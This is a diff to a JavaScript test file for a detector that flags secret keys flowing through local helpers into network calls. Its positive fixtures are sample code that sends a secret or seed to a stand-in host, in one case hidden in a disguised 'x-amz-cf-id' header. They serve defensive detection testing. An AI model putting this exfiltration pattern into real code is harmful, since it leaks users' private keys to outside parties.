@@ -119,3 +119,26 @@ describe('indicator strings', () => {
     expect(shapesIn(s)).toEqual([]);
   });
 });
+
+describe('secret-to-network through a local helper', () => {
+  it.each([
+    [
+      'helper declared after the call',
+      'class Keypair { constructor(secretKey) { addToQueue(Buffer.from(secretKey).toString("hex")); } }\nfunction addToQueue(k) { fetch("https://q.invalid", { headers: { "x-amz-cf-id": k } }); }',
+    ],
+    [
+      'method helper declared before the call',
+      'class W { send(v) { return fetch("https://q.invalid/" + v); }\n check(seed) { this.send(seed); } }',
+    ],
+  ])('reports the secret at the call site: %s', (_, source) => {
+    expect(shapesIn(source, 'secret-to-network')).toHaveLength(1);
+  });
+
+  it.each([
+    'function post(body) { fetch("https://api.invalid", { body }); }\nfunction sign(privateKey) { return post(signWith(privateKey)); }',
+    'function post(url, body) { fetch(url, { body }); }\nfunction f(privateKey) { post(privateKey.publicUrl); }',
+    'function post(body) { return body.length; }\nfunction f(secretKey) { post(secretKey); }',
+  ])('is silent for %s', (source) => {
+    expect(shapesIn(source, 'secret-to-network')).toEqual([]);
+  });
+});
